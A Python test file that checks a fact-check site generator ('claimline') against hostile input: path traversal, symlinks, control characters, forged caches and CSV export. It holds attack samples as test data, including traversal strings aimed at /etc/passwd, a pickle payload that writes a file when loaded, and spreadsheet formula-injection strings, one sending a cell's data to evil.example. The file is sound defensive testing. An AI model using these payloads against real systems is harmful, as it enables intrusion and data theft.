"""Hostile and broken input: editor-supplied text is data.

No input may make claimline write or delete outside its output folders (docs/ and site/), follow a symbolic
link, or stop with a traceback; a run either writes everything or nothing.  Every test runs the real CLI
(click's CliRunner, exceptions not caught) and compares a snapshot of everything around the project (a
sibling "outside" folder, the project's own inputs) before and after the run.

Exit codes: 0 all is well, 1 the inputs have errors, 2 the tool could not run.  Never 3 (a bug).
"""

from __future__ import annotations

import csv
import io
import json
import os
import pickle
import re
import shutil
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner

from conftest import ProjectBuilder
from generator import api
from generator.cache import FILE as CACHE_FILE
from generator.cli import main
from generator.link import MAX_ID_LENGTH
from generator.write import MANIFEST

GOOD = """\
statement: The sky is green.
claimant: Jane Doe
date: 2021-12-07
rating: "false"
"""
ARTICLE = """\
---
date: 2021-12-08
title: A report
---
The sky is green, said Jane Doe.
"""
SECRET = GOOD.replace("The sky is green.", "A secret claim from outside the project.")
OUTPUTS = {"proj/docs", "proj/site", "proj/.claimline-cache"}  # the tool's own folders (the cache is git-ignored)
PLAIN_PATH = re.compile(r"^[a-z0-9][a-z0-9._-]*(/[a-z0-9][a-z0-9._-]*)*$")


# -- the world around the project ------------------------------------------------------------------------------


def snapshot(root: Path, skip: set[str] = frozenset()) -> dict[str, tuple]:
    """Every entry under ``root`` without following links: files by bytes, links by target, folders by name."""
    out: dict[str, tuple] = {}

    def walk(folder: str) -> None:
        for entry in sorted(os.scandir(folder), key=lambda e: e.name):
            rel = Path(entry.path).relative_to(root).as_posix()
            if rel in skip:
                continue
            if entry.is_symlink():
                out[rel] = ("link", os.readlink(entry.path))
            elif entry.is_dir():
                out[rel] = ("folder",)
                walk(entry.path)
            else:
                out[rel] = ("file", Path(entry.path).read_bytes())

    walk(str(root))
    return out


@dataclass
class World:
    """A project in ``tmp/proj`` and, beside it, a folder of things an attacker would like to reach."""

    tmp: Path
    p: ProjectBuilder
    outside: Path

    @property
    def root(self) -> Path:
        return self.p.root

    @property
    def docs(self) -> Path:
        return self.root / "docs"

    def around(self) -> dict[str, tuple]:
        """Everything but the project's output folders: the outside folder, the inputs, mkdocs.yml."""
        return snapshot(self.tmp, OUTPUTS)

    @contextmanager
    def untouched(self):
        before = self.around()
        yield
        after = self.around()
        assert after == before, f"changed outside docs/ and site/: {sorted(set(after) ^ set(before)) or 'bytes'}"


@pytest.fixture
def world(tmp_path: Path) -> World:
    outside = tmp_path / "outside"
    (outside / "secret").mkdir(parents=True)
    (outside / "victim.md").write_bytes(b"precious\n")
    (outside / "secret.yaml").write_text(SECRET, "utf-8")
    (outside / "secret" / "secret.yaml").write_text(SECRET, "utf-8")
    (outside / "secret" / "secret.md").write_text(ARTICLE, "utf-8")
    return World(tmp_path, ProjectBuilder(tmp_path / "proj"), outside)


def cli(world: World, *args: str):
    """Run a command; it may succeed or refuse, but never with a traceback or the 'bug' exit code."""
    result = CliRunner().invoke(main, [*args, "--project", str(world.root)], catch_exceptions=False)
    assert "Traceback" not in result.output, result.output
    assert "internal error" not in result.output, result.output
    assert result.exit_code in (0, 1, 2), result.output
    return result


def generated(folder: Path) -> list[str]:
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file() and p.name != MANIFEST)


def assert_plain_and_inside(docs: Path) -> None:
    """Every generated page has a plain lower-case path that really is inside docs/."""
    root = docs.resolve()
    for rel in generated(docs):
        assert PLAIN_PATH.match(rel), rel
        assert root in (docs / rel).resolve().parents, rel


# -- ids from file names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("folder, suffix", [("claims", ".yaml"), ("content", ".md")])
@pytest.mark.parametrize("stem, message", [
    ("a..%2fb", "cannot be used as"),
    ("%2e%2e%2fetc%2fpasswd", "cannot be used as"),
    ("a\\..\\b", "cannot be used as"),
    ("C:\\etc\\passwd", "cannot be used as"),
    ("Foo", "cannot be used as"),
    ("x y", "cannot be used as"),
    ("index", "is reserved"),
    ("a" * (MAX_ID_LENGTH + 1), f"may have at most {MAX_ID_LENGTH}"),
    ("a" * 250, f"may have at most {MAX_ID_LENGTH}"),  # 255 bytes with '.yaml': the longest name Linux allows
    ("zz\n", "cannot be used as"),  # a regular expression's '$' also matches before a final line break
    ("zz\x1b[2Jx", "cannot be used as"),
])
def test_file_names_that_are_not_ids_are_input_errors(world, folder, suffix, stem, message):
    world.p.claim("good", GOOD)
    text = GOOD if folder == "claims" else ARTICLE
    world.p.write(f"{folder}/{stem}{suffix}", text)
    with world.untouched():
        result = cli(world, "generate")
    assert result.exit_code == 1, result.output
    assert message in result.output
    assert not world.docs.exists(), "nothing is written when an input has errors"


@pytest.mark.parametrize("fmt", ["text", "github"])
def test_control_characters_in_a_file_name_reach_the_terminal_escaped(world, fmt):
    world.p.claim("good", GOOD)
    world.p.write("claims/zz\x1b[2Jx\n.yaml", GOOD)
    # color=True: click would otherwise strip the escape sequence itself, as it does for a pipe
    result = CliRunner().invoke(main, ["check", "--format", fmt, "--project", str(world.root)], color=True)
    assert result.exit_code == 1, result.output
    assert "\x1b" not in result.output
    assert "claims/zz\\x1b[2Jx\\x0a.yaml" in result.output
    assert "'zz\\x1b[2Jx\n.yaml'" not in result.output


@pytest.mark.parametrize("name", ["..%2f..%2fetc%2fpasswd.yaml", "..yaml", "...yaml", ".hidden.yaml",
                                  "_draft.yaml", "_drafts/x.yaml", ".git/x.yaml"])
def test_hidden_names_are_skipped_and_never_become_pages(world, name):
    world.p.claim("good", GOOD)
    world.p.write(f"claims/{name}", SECRET)
    with world.untouched():
        result = cli(world, "generate")
    assert result.exit_code == 0, result.output
    assert [p for p in generated(world.docs) if p.startswith("claims/") and p.endswith(".md")] == \
        ["claims/good.md", "claims/index.md"]
    assert_plain_and_inside(world.docs)


def test_longest_allowed_id_generates(world):
    ident = "a" * MAX_ID_LENGTH
    world.p.claim(ident, GOOD)
    world.p.article(f"{'b' * MAX_ID_LENGTH}.md", ARTICLE)
    with world.untouched():
        result = cli(world, "generate")
    assert result.exit_code == 0, result.output
    assert (world.docs / "claims" / f"{ident}.md").is_file()
    assert (world.docs / "articles" / f"{'b' * MAX_ID_LENGTH}.md").is_file()


# -- references to other records --------------------------------------------------------------------------------

HOSTILE_REFS = ["../../x", "..%2f..%2fx", "/etc/passwd", "../outside/secret", "claims/good", "good.yaml",
                "..\\\\..\\\\x", "C:\\\\Windows\\\\system.ini", "a\\0b", "\\0", "x" * 5000, "./good", "~/x",
                "file:///etc/passwd", ".", ".."]


@pytest.mark.parametrize("ref", HOSTILE_REFS)
def test_hostile_references_are_input_errors(world, ref):
    world.p.claim("good", GOOD)
    world.p.article("report.md", ARTICLE)
    world.p.claim("a", GOOD + f'related:\n  - claim: "{ref}"\n    relation: supports\n'
                  f'appearances:\n  - article: "{ref}"\n')
    with world.untouched():
        result = cli(world, "generate")
    assert result.exit_code == 1, result.output
    assert re.search(r"claims/a\.yaml:\d+:\d+: error: related claim '.*' does not exist", result.output, re.S)
    assert re.search(r"claims/a\.yaml:\d+:\d+: error: article '.*' does not exist", result.output, re.S)
    assert not world.docs.exists()


def test_hostile_references_in_json_output_stay_one_document(world):
    world.p.claim("a", GOOD + 'related:\n  - claim: "\\0../../\\e[2J"\n    relation: supports\n')
    result = cli(world, "check", "--format", "json")
    assert result.exit_code == 1
    report = json.loads(result.stdout)
    assert "does not exist" in report["problems"][0]["message"]


# -- names that become slugs: claimants, stories, tags -----------------------------------------------------------

HOSTILE_NAMES = ["../../..", "/abs", "/etc/passwd", ".", "..", "...", "!!!", "-", "..%2f..%2fetc", "a/b/c",
                 "\u202e../..", "<script>x</script>", "index", "INDEX", "page-2", "letters", "CON", "nul",
                 "🙂", "Ⅻ", "x" * 5000, "C:\\Windows", "..\\..\\x", "\x00", "a\x00b", "\x1b[2J"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_group_names_become_slugs_inside_docs(world, name):
    value = json.dumps(name, ensure_ascii=False)  # a YAML double-quoted string
    tags = "" if re.search(r'[<>"`{}\[\]\\]', name) else f"tags: [{value}, Russia]\n"  # not allowed in tags
    world.p.claim("a", GOOD.replace("Jane Doe", value) + f"story: {value}\n" + tags)
    world.p.claim("b", GOOD)
    with world.untouched():
        result = cli(world, "generate")
    assert result.exit_code == 0, result.output
    assert_plain_and_inside(world.docs)
    pages = generated(world.docs)
    claimant = [p for p in pages if p.startswith("claimants/") and p != "claimants/index.md"]
    stories = [p for p in pages if p.startswith("stories/") and p != "stories/index.md"]
    assert len(claimant) == 2 and len(stories) == 1, pages  # the hostile claimant and Jane Doe
    for group in claimant + stories:
        assert len(Path(group).stem) <= 80
    for index in ("claimants/index.md", "stories/index.md", "topics/index.md"):
        assert "All fact-checks" not in (world.docs / index).read_text("utf-8")  # a list page, not overwritten
        assert (world.docs / index).read_text("utf-8").count("\n# ") == 1


@pytest.mark.parametrize("name", ["", " ", "\u00a0", "\u3000", "\n", "\t"])
def test_blank_group_names_are_input_errors(world, name):
    value = json.dumps(name, ensure_ascii=False)
    world.p.claim("a", GOOD.replace("Jane Doe", value) + f"story: {value}\ntags: [{value}]\n")
    with world.untouched():
        result = cli(world, "generate")
    assert result.exit_code == 1, result.output
    assert "error: 'claimant.name' is empty" in result.output
    assert "error: 'story' is empty" in result.output
    assert "error: 'tags[1]': the tag is empty" in result.output


# -- symbolic links among the inputs ----------------------------------------------------------------------------


def _plant(world: World, folder: str, kind: str, suffix: str) -> Path:
    """A symbolic link of ``kind`` inside ``folder``; returns the link."""
    base = world.root / folder
    targets = {
        "file-outside": (f"link{suffix}", world.outside / f"secret{suffix.replace('.md', '/secret.md')}"),
        "file-inside": (f"link{suffix}", base / f"good{suffix}"),
        "folder-outside": ("linked", world.outside / "secret"),
        "folder-inside": ("linked", world.root / "site-overrides"),
        "folder-parent": ("up", world.root),
        "dangling-input": (f"gone{suffix}", world.outside / f"missing{suffix}"),
        "dangling": ("gone", world.outside / "missing"),
        "loop": ("loop", base / "loop"),
        "loop-input": (f"loop{suffix}", base / f"loop{suffix}"),
    }
    name, target = targets[kind]
    link = base / name
    os.symlink(target, link)
    return link


@pytest.mark.parametrize("folder, suffix", [("claims", ".yaml"), ("content", ".md")])
@pytest.mark.parametrize("kind", ["file-outside", "file-inside", "folder-outside", "folder-inside", "folder-parent",
                                  "dangling-input", "dangling", "loop", "loop-input"])
def test_symlinked_inputs_are_skipped_with_a_warning(world, folder, suffix, kind):
    world.p.claim("good", GOOD)
    world.p.article("good.md", ARTICLE)
    link = _plant(world, folder, kind, suffix)
    with world.untouched():
        result = cli(world, "generate")
    assert result.exit_code == 0, result.output
    rel = link.relative_to(world.root).as_posix()
    assert f"{rel}:1:1: warning: symbolic link skipped" in result.output
    assert sorted(p for p in generated(world.docs) if p.startswith(("claims/", "articles/"))) == \
        ["articles/good.md", "articles/index.md", "claims/good.md", "claims/index.md"]
    assert b"secret claim" not in b"".join((world.docs / p).read_bytes() for p in generated(world.docs))
    assert link.is_symlink()  # the link itself is left alone


def test_symlinked_inputs_fail_under_strict(world):
    world.p.claim("good", GOOD)
    _plant(world, "claims", "file-outside", ".yaml")
    with world.untouched():
        result = cli(world, "generate", "--strict")
    assert result.exit_code == 1
    assert not world.docs.exists()


# -- symbolic links planted in the output folders ----------------------------------------------------------------
#
# A link in docs/ is refused by the check stage (exit 1): MkDocs follows links, so it would publish what one points
# to, or walk a loop until it crashes.  Behind that, the write stage never writes through a link (test_write.py).


def _first_generate(world: World) -> None:
    world.p.claim("good", GOOD)
    world.p.claim("old", GOOD)
    assert cli(world, "generate").exit_code == 0


def _refused_for_links(world: World, result, links: list[str]) -> None:
    assert result.exit_code == 1, result.output
    for rel in links:
        assert f"docs/{rel}:1:1: error: symbolic link in the output folder; MkDocs would follow it" in result.output
    assert "hint: remove it: docs/ holds only pages claimline generates" in result.output


@pytest.mark.parametrize("page", ["claims/good.md", "index.md", "claims.json"])
@pytest.mark.parametrize("target", ["victim.md", "not-there-yet.md"])
def test_a_link_planted_at_a_generated_page_is_never_written_through(world, page, target):
    _first_generate(world)
    (world.docs / page).unlink()
    os.symlink(world.outside / target, world.docs / page)
    world.p.claim("good", GOOD.replace("green", "blue"))  # every planned page changes
    docs_before = snapshot(world.docs)
    with world.untouched():
        result = cli(world, "generate")
    _refused_for_links(world, result, [page])
    assert snapshot(world.docs) == docs_before  # all or nothing: not one page was written
    assert (world.outside / "victim.md").read_bytes() == b"precious\n"
    assert not (world.outside / "not-there-yet.md").exists()


def test_a_linked_subfolder_of_docs_is_never_written_through(world):
    _first_generate(world)
    os.rename(world.docs / "claims", world.tmp / "moved-claims")
    os.symlink(world.outside / "secret", world.docs / "claims")
    with world.untouched():
        result = cli(world, "generate")
    _refused_for_links(world, result, ["claims"])


def test_links_planted_anywhere_in_docs_stop_the_run_and_are_left_alone(world):
    _first_generate(world)
    planted = {"evil": world.outside / "secret", "claims/extra.md": world.outside / "victim.md",
               "claims/new.md": world.outside / "new.md", "timeline/2021/x.md": world.outside / "x.md",
               "loop": world.docs, MANIFEST + ".bak": world.outside / "victim.md"}
    for rel, target in planted.items():
        (world.docs / rel).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, world.docs / rel)
    (world.p.root / "claims" / "old.yaml").unlink()  # its page would become stale and be deleted
    world.p.claim("good", GOOD.replace("green", "blue"))
    docs_before = snapshot(world.docs)
    with world.untouched():
        result = cli(world, "generate")
    _refused_for_links(world, result, list(planted))
    assert snapshot(world.docs) == docs_before
    assert not (world.outside / "new.md").exists() and not (world.outside / "x.md").exists()


def test_a_stale_page_replaced_by_a_link_is_not_deleted_through_it(world):
    _first_generate(world)
    (world.docs / "claims" / "old.md").unlink()
    os.symlink(world.outside / "victim.md", world.docs / "claims" / "old.md")
    (world.root / "claims" / "old.yaml").unlink()
    with world.untouched():
        result = cli(world, "generate")
    _refused_for_links(world, result, ["claims/old.md"])
    assert (world.docs / "claims" / "old.md").is_symlink()
    os.unlink(world.docs / "claims" / "old.md")  # once the editor removes the link, all is well
    assert cli(world, "generate").exit_code == 0


@pytest.mark.parametrize("listed", ["pages", "nothing"])
def test_a_manifest_that_is_a_link_is_never_followed(world, listed):
    _first_generate(world)
    forged = world.outside / "manifest.json"
    files = generated(world.docs) if listed == "pages" else []
    forged.write_text(json.dumps({"generator": "claimline", "files": files + [
        "../../outside/victim.md", str(world.outside / "victim.md"), "../victim.md"]}), "utf-8")
    (world.docs / MANIFEST).unlink()
    os.symlink(forged, world.docs / MANIFEST)
    world.p.claim("good", GOOD.replace("green", "blue"))
    docs_before = snapshot(world.docs)
    with world.untouched():
        result = cli(world, "generate")
    _refused_for_links(world, result, [MANIFEST])
    assert snapshot(world.docs) == docs_before


def test_build_never_publishes_what_a_link_in_docs_points_to(world):
    _first_generate(world)
    os.symlink(world.outside / "victim.md", world.docs / "passwd.txt")
    os.symlink(world.docs, world.docs / "loop")  # MkDocs would walk docs/loop/loop/... and crash
    with world.untouched():
        result = cli(world, "build")
    _refused_for_links(world, result, ["passwd.txt", "loop"])
    assert not (world.root / "site").exists()


def test_build_never_follows_links_planted_in_site(world):
    world.p.claim("good", GOOD)
    (world.root / "site").mkdir()
    os.symlink(world.outside / "secret", world.root / "site" / "evil")
    os.symlink(world.outside / "victim.md", world.root / "site" / "index.html")
    with world.untouched():
        result = cli(world, "build")
    assert result.exit_code == 0, result.output
    assert (world.root / "site" / "index.html").is_file() and not (world.root / "site" / "index.html").is_symlink()
    assert not (world.root / "site" / "evil").exists()  # the old site went as a whole, links and all


# -- output folders that are themselves links -------------------------------------------------------------------


@pytest.mark.parametrize("folder, command", [("docs", "generate"), ("site", "build")])
def test_an_output_folder_linked_outside_the_project_is_refused(world, folder, command):
    world.p.claim("good", GOOD)
    os.symlink(world.outside, world.root / folder)
    with world.untouched():
        result = cli(world, command)
    assert result.exit_code == 2, result.output
    assert f"{folder}_dir '{folder}' must be a folder inside the project" in result.output


@pytest.mark.parametrize("target", ["content", "claims", "site-overrides", "claims/nested", "site"])
def test_docs_linked_to_an_input_folder_is_refused(world, target):
    world.p.claim("good", GOOD)
    world.p.article("good.md", ARTICLE)
    (world.root / target).mkdir(parents=True, exist_ok=True)
    os.symlink(world.root / target, world.docs)
    before = snapshot(world.root, {"docs", ".claimline-cache"})
    with world.untouched():
        result = cli(world, "generate")
    assert result.exit_code == 1, result.output
    assert "error: the output folder docs_dir" in result.output and "overlaps the folder" in result.output
    assert snapshot(world.root, {"docs", ".claimline-cache"}) == before


@pytest.mark.parametrize("setting", ["docs_dir: content", "docs_dir: claims/pages", "site_dir: docs",
                                     "docs_dir: site-overrides", "site_dir: content/site"])
def test_output_folders_overlapping_inputs_are_refused(world, setting):
    world.p.claim("good", GOOD)
    world.p.write("mkdocs.yml", (world.root / "mkdocs.yml").read_text("utf-8") + setting + "\n")
    with world.untouched():
        result = cli(world, "build")
    assert result.exit_code == 1, result.output
    assert "overlaps the folder" in result.output


# -- settings, template overrides and input folders that cannot be used -----------------------------------------
#
# Each stops the run with a message naming the file and line, never a traceback, and leaves docs/ as it was.


def _config(world: World, replace: tuple[str, str] | None = None, append: str = "") -> int:
    """Edit mkdocs.yml; the line number ``append`` starts at."""
    text = (world.root / "mkdocs.yml").read_text("utf-8")
    text = text.replace(*replace) if replace else text
    world.p.write("mkdocs.yml", text + append)
    return text.count("\n") + 1


@pytest.mark.parametrize("replace, append, line, col, message", [
    (None, "docs_dir: [docs]\n", 0, 11, "docs_dir must be a single value, not a list"),
    (None, "docs_dir: {a: b}\n", 0, 11, "docs_dir must be a single value, not a mapping"),
    (("custom_dir: site-overrides", "custom_dir: [a]"), "", 5, 15,
     "theme.custom_dir must be a single value, not a list"),
    (None, "extra:\n  claimline:\n    page_size: [1]\n", 2, 16,
     "extra.claimline.page_size must be a single value, not a list"),
    (None, "extra:\n  claimline:\n    ratings:\n      - id: a\n        label: A\n        value: [1]\n", 5, 16,
     "extra.claimline.ratings[0].value must be a single value, not a list"),
], ids=["docs_dir-list", "docs_dir-mapping", "custom_dir-list", "page_size-list", "rating-value-list"])
@pytest.mark.parametrize("command", ["generate", "check"])
def test_a_setting_of_the_wrong_kind_is_reported_at_its_position(world, replace, append, line, col, message, command):
    _first_generate(world)
    docs = snapshot(world.docs)
    start = _config(world, replace, append)
    with world.untouched():
        result = cli(world, command)
    assert result.exit_code == 2, result.output
    assert f"claimline: mkdocs.yml:{line + start if append else line}:{col}: error: {message}\n    hint: write it " \
           "on one line, e.g. " in result.output
    assert snapshot(world.docs) == docs


def test_every_settings_problem_is_reported_at_once(world):
    _first_generate(world)
    docs = snapshot(world.docs)
    start = _config(world, append="use_directory_urls: [a]\nextra:\n  claimline:\n    latest: many\n"
                                   "    organisation: x\n    ratings:\n      - id: Bad\n        label: B\n"
                                   "        colour: red\n      - id: ok\n        label: {a: b}\n")
    with world.untouched():
        result = cli(world, "generate")
    assert result.exit_code == 2, result.output
    for offset, col, message in [(0, 21, "use_directory_urls must be a single value, not a list"),
                                 (3, 13, "extra.claimline.latest must be a whole number"),
                                 (4, 19, "extra.claimline.organisation must be a mapping of settings, not 'x'"),
                                 (6, 13, "rating id 'Bad' may use only lower-case letters"),
                                 (8, 17, "colour 'red' must be written like #1a7f37"),
                                 (10, 16, "extra.claimline.ratings[1].label must be a single value, not a mapping")]:
        assert f"mkdocs.yml:{start + offset}:{col}: error: {message}" in result.output
    assert snapshot(world.docs) == docs


@pytest.mark.parametrize("data, line, message", [
    (b"\xff\xfe", 1, "file is not UTF-8 text (byte 0xff)"),
    (b"# {{ rec.claim.statement }}\n\n{{ 1/0 }}\n", 3, "ZeroDivisionError: division by zero"),
    (b"# {{ rec.claim.statement }}\n{{ claim_facts(1) }}\n", 2, "TypeError: claim_facts() missing 2 required"),
    (b"# {{ rec.claim.statement }}\n{% include 'claim.md' %}\n", 2, "RecursionError"),
    (b"{% include 'nothing.md' %}\n", 1, "no template named 'nothing.md'"),
], ids=["not-utf8", "division-by-zero", "component-arguments", "recursion", "missing-include"])
def test_an_error_in_a_template_override_names_the_template_and_line(world, data, line, message):
    _first_generate(world)
    docs = snapshot(world.docs)
    world.p.write("site-overrides/claimline/claim.md", data)
    with world.untouched():
        result = cli(world, "generate")
    assert result.exit_code == 2, result.output
    assert f"site-overrides/claimline/claim.md:{line}: {message}" in result.output
    assert "hint: fix the template in site-overrides/claimline/ or remove it to use the default" in result.output
    assert snapshot(world.docs) == docs


@pytest.mark.parametrize("folder, setting", [("claims", "claims_dir"), ("content", "content_dir")])
def test_an_input_folder_that_is_a_file_is_an_error_not_an_empty_site(world, folder, setting):
    world.p.article("good.md", ARTICLE)
    _first_generate(world)
    docs = snapshot(world.docs)
    shutil.rmtree(world.root / folder)
    world.p.write(folder, "not a folder\n")
    for command in ("check", "generate"):
        with world.untouched():
            result = cli(world, command)
        assert result.exit_code == 1, result.output
        assert f"{folder}:1:1: error: {setting} '{folder}' is not a folder\n    hint: claimline reads its inputs " \
               "from this folder" in result.output
    assert snapshot(world.docs) == docs


# -- names that differ only in case -----------------------------------------------------------------------------


def _case_sensitive(folder: Path) -> bool:
    (folder / "CaseProbe").write_text("x")
    sensitive = not (folder / "caseprobe").exists()
    (folder / "CaseProbe").unlink()
    return sensitive


@pytest.mark.parametrize("folder, names, kind", [
    ("claims", ["Foo.yaml", "foo.yaml"], "claim"),
    ("claims", ["foo.yaml", "foo.yml"], "claim"),
    ("content", ["Foo.md", "foo.md"], "article"),
    ("content", ["foo.md", "foo.txt"], "article"),
    ("content", ["foo.md", "FOO.markdown"], "article"),
])
def test_ids_that_differ_only_in_case_or_extension_are_duplicates(world, folder, names, kind):
    if not _case_sensitive(world.root / folder):
        pytest.skip("a case-insensitive file system cannot hold both files")
    for name in names:
        world.p.write(f"{folder}/{name}", GOOD if kind == "claim" else ARTICLE)
    with world.untouched():
        result = cli(world, "generate")
    assert result.exit_code == 1, result.output
    assert f"error: duplicate {kind} id" in result.output
    assert not world.docs.exists()


def test_names_that_differ_only_in_case_give_one_page_each(world):
    variants = [("Joe Biden", "Russia", "Kyiv talks"), ("JOE BIDEN", "russia", "KYIV TALKS"),
                ("joe biden", "RUSSIA", "kyiv-talks"), ("Joe  Biden", "Russia ", "Kyiv  Talks")]
    for i, (claimant, tag, story) in enumerate(variants):
        world.p.claim(f"c{i}", GOOD.replace("Jane Doe", claimant) + f"tags: [{tag}, Ukraine, UKRAINE]\nstory: {story}\n")
    world.p.article("a.md", ARTICLE.replace("title: A report", "title: A report\ntags: [RUSSIA, ukraine]\n"
                                            "story: Kyiv Talks"))
    world.p.article("b.txt", ARTICLE.replace("title: A report", "tags: [Russia]"))
    with world.untouched():
        result = cli(world, "generate")
    assert result.exit_code == 0, result.output
    pages = generated(world.docs)
    lowered = [p.lower() for p in pages]
    assert len(set(lowered)) == len(pages), "two pages would collide on a case-insensitive file system"
    assert [p for p in pages if p.startswith("claimants/")] == ["claimants/index.md", "claimants/joe-biden.md"]
    assert [p for p in pages if p.startswith("topics/")] == ["topics/index.md", "topics/russia.md",
                                                             "topics/ukraine.md"]
    assert [p for p in pages if p.startswith("stories/")] == ["stories/index.md", "stories/kyiv-talks.md"]
    # the topic's page lists every claim and article filed under any spelling; each links to the topic once
    topic = (world.docs / "topics" / "russia.md").read_text("utf-8")
    for page in [f"claims/c{i}.md" for i in range(4)] + ["articles/a.md", "articles/b.md"]:
        assert f'href="../../{page[:-3]}/"' in topic, page
        text = (world.docs / page).read_text("utf-8")
        assert text.count('href="../../topics/russia/"') == 1, page
        assert text.count('href="../../topics/ukraine/"') == (page != "articles/b.md"), page
        front = text.split("---\n")[1]  # the front matter's tags: one spelling each, for themes that show them
        tags = re.findall(r'^- "?(.*?)"?$', front.split("tags:\n")[1], re.M)
        assert "Russia" in tags, (page, tags)
        assert len(tags) == len({t.lower() for t in tags}), (page, tags)  # Ukraine and UKRAINE: one topic


def test_names_that_only_transliterate_alike_get_a_page_each(world):
    names = [("c1", "李明", "Прага"), ("c2", "黎明", "Praga"), ("c3", "Li Ming", "praga"),
             ("c4", "Lí-Míng", "Prága")]
    for ident, claimant, tag in names:
        world.p.claim(ident, GOOD.replace("Jane Doe", claimant) + f"tags: [{tag}]\n")
    assert cli(world, "generate").exit_code == 0
    pages = generated(world.docs)
    claimants = {p: (world.docs / p).read_text("utf-8") for p in pages if p.startswith("claimants/li-ming")}
    assert sorted(claimants) == ["claimants/li-ming-2.md", "claimants/li-ming-3.md", "claimants/li-ming.md"]
    assert "# 李明" in claimants["claimants/li-ming.md"] and "黎明" not in claimants["claimants/li-ming.md"]
    assert "# 黎明" in claimants["claimants/li-ming-2.md"] and "李明" not in claimants["claimants/li-ming-2.md"]
    # case, accents and punctuation still make one person: Li Ming and Lí-Míng share a page
    third = claimants["claimants/li-ming-3.md"]
    assert "# Li Ming" in third and 'href="../../claims/c3/"' in third and 'href="../../claims/c4/"' in third
    assert 'href="../../claims/c1/"' not in third
    assert [p for p in pages if p.startswith("topics/pra")] == ["topics/praga-2.md", "topics/praga.md"]
    assert "title: \"Прага\"" in (world.docs / "topics" / "praga.md").read_text("utf-8")
    assert 'href="../../claimants/li-ming-2/"' in (world.docs / "claims" / "c2.md").read_text("utf-8")


def test_every_generated_path_is_unique_ignoring_case(world):
    names = ["Index", "INDEX", "index", "Letters", "Page-2", "Ratings", "Claims", "Timeline", "A", "a", "Ä", "ä",
             "ß", "SS", "ss", "İ", "i", "ı", "K", "\u212a"]  # the last is the Kelvin sign, which lowers to k
    for i, name in enumerate(names):
        value = json.dumps(name)
        world.p.claim(f"c{i}", GOOD.replace("Jane Doe", value) + f"tags: [{value}]\nstory: {value}\n")
    with world.untouched():
        result = cli(world, "generate")
    assert result.exit_code == 0, result.output
    pages = generated(world.docs)
    assert len({p.lower() for p in pages}) == len(pages)
    assert len({p.casefold() for p in pages}) == len(pages)
    assert_plain_and_inside(world.docs)


# -- NUL bytes and other control characters ---------------------------------------------------------------------


def test_a_raw_nul_byte_in_a_claim_file_is_an_input_error(world):
    world.p.write("claims/a.yaml", GOOD.encode().replace(b"green", b"gr\x00een"))
    with world.untouched():
        result = cli(world, "generate")
    assert result.exit_code == 1, result.output
    assert re.search(r"claims/a\.yaml:1:\d+: error: YAML", result.output)


@pytest.mark.parametrize("name", ["a.md", "a.txt"])
def test_nul_and_control_bytes_in_an_article_never_reach_the_pages(world, name):
    body = "Title \x00 here\x1b[2J\nStand\x07first\n\nBody\x00 text \u202eevil\u202c and \x7f more.\n"
    world.p.write(f"content/{name}", ("---\ndate: 2021-12-08\n---\n" + ("# " if name.endswith(".md") else "")
                                      + body).encode())
    world.p.claim("c", GOOD + 'summary: "nul \\0 here \\e[31m"\n')
    with world.untouched():
        result = cli(world, "generate")
    assert result.exit_code == 0, result.output
    for rel in generated(world.docs):
        data = (world.docs / rel).read_bytes()
        assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", data), rel
        assert "\u202e".encode() not in data, rel


# -- the parse cache (.claimline-cache/) ------------------------------------------------------------------------


class _Payload:
    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (Path.write_text, (Path(self.path), "pwned"))


def test_a_planted_cache_file_is_never_executed(world):
    """The cache is signed with a key kept outside the project: a planted pickle is never loaded."""
    world.p.claim("good", GOOD)
    cache = world.root / ".claimline-cache"
    cache.mkdir()
    payload = pickle.dumps(_Payload(str(world.outside / "pwned")))
    for version in range(1, 10):
        (cache / f"parsed-v{version}.pickle").write_bytes(payload)
    (cache / CACHE_FILE).write_bytes(b"\0" * 32 + payload)  # where the cache is now, behind a forged signature
    cli(world, "check")
    assert not (world.outside / "pwned").exists()


def test_a_cache_folder_linked_outside_is_never_written_through(world):
    world.p.claim("good", GOOD)
    os.symlink(world.outside, world.root / ".claimline-cache")
    with world.untouched():
        cli(world, "generate")


# -- the library API gives the same guarantees ------------------------------------------------------------------


def test_api_generate_refuses_planted_links_with_a_claimline_error(world):
    from generator.errors import ValidationFailed

    _first_generate(world)
    (world.docs / "index.md").unlink()
    os.symlink(world.outside / "victim.md", world.docs / "index.md")
    world.p.claim("good", GOOD.replace("green", "blue"))
    with pytest.raises(ValidationFailed) as info:
        api.generate(world.root)
    assert info.value.exit_code == 1
    assert [p.path for p in info.value.problems] == ["docs/index.md"]
    assert (world.outside / "victim.md").read_bytes() == b"precious\n"


def test_the_write_stage_refuses_links_on_its_own(world):
    """Defence in depth: even when called directly, writing never goes through a link."""
    from generator.errors import UnsafePathError
    from generator.write import write_tree

    world.docs.mkdir()
    os.symlink(world.outside / "victim.md", world.docs / "index.md")
    with world.untouched(), pytest.raises(UnsafePathError) as info:
        write_tree(world.docs, {"index.md": b"overwritten\n"})
    assert "it is a symbolic link" in info.value.message and info.value.hint


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text(world):
    world.p.claim("formula", """\
statement: '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
claimant: '@SUM(1+1)*cmd|" /C calc"!A0'
date: 2021-12-07
rating: "false"
summary: "-2+3 is what the post said."
tags: ["+cmd", "Economy"]
""")
    world.p.claim("plain", GOOD)
    assert cli(world, "generate").exit_code == 0
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO((world.docs / "claims.csv").read_text("utf-8")))}
    row = rows["formula"]
    assert row["statement"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
    assert row["claimant"] == '\'@SUM(1+1)*cmd|" /C calc"!A0'
    assert row["summary"] == "'-2+3 is what the post said."
    assert row["tags"] == "'+cmd; Economy"
    assert rows["plain"]["statement"] == "The sky is green."  # other text is written as it is
    for r in rows.values():
        assert not any(v.startswith(("=", "+", "-", "@")) for v in r.values()), r
    # the claim's page still shows the statement as written
